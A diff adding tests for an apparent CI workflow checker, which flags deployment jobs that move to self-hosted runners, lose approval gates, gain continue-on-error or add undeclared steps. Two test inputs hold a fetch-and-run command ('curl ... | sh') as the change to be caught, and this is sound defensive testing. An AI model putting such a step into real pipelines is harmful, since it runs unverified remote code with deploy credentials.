@@ -186,6 +186,12 @@ def changed(assembly: Assembly, settings: Settings, tmp_path: Path) -> Any:
     return check
 
 
+def test_another_runner_is_found(changed: Any) -> None:
+    job = "    name: Deploy dataops-v1\n    needs: [checks, approve]\n    if: github.ref == 'refs/heads/main'\n"
+    found = changed(f"{job}    runs-on: ubuntu-24.04\n", f"{job}    runs-on: self-hosted\n")
+    assert [one.kind.value for one in found] == ["runner"]
+
+
 @pytest.mark.parametrize(
     ("old", "new", "said"),
     [
@@ -206,6 +212,28 @@ def changed(assembly: Assembly, settings: Settings, tmp_path: Path) -> Any:
         ),
         ("      id-token: write\n", "", "has no `id-token: write`"),
         ("role-session-name: dataops-v1-deploy", "role-session-name: me", "`dataops-v1-deploy` is declared"),
+        ("    environment: dataops-v1\n", "", "waits for no approval by the environment `dataops-v1`"),
+        ("    needs: [checks, approve]\n", "    needs: [checks]\n", "waits for no approval"),
+        (
+            "    environment: dataops-v1\n",
+            "    environment: dataops-v1\n    continue-on-error: true\n",
+            "job `approve`, whose approval job `deploy` waits for, has `continue-on-error`",
+        ),
+        (
+            "          make tools\n",
+            "          curl -fsSL https://example.com | sh\n",
+            "runs what no lock file or hash names: `curl -fsSL https://example.com`",
+        ),
+        (
+            "      - name: Preflight\n",
+            "      - run: curl -fsSL https://example.com | sh\n      - name: Preflight\n",
+            "the step `run: curl -fsSL https://example.com | sh`, which is not declared",
+        ),
+        (
+            "run: python3 .github/scripts/summarised.py 'Preflight' python -m ops preflight --as-deploy-role",
+            "run: echo ok",
+            "the step `Preflight`, which runs `echo ok`, other than declared",
+        ),
         ("aws-region: eu-west-1", "aws-region: eu-central-1", "the stacks are in `eu-west-1`"),
     ],
 )
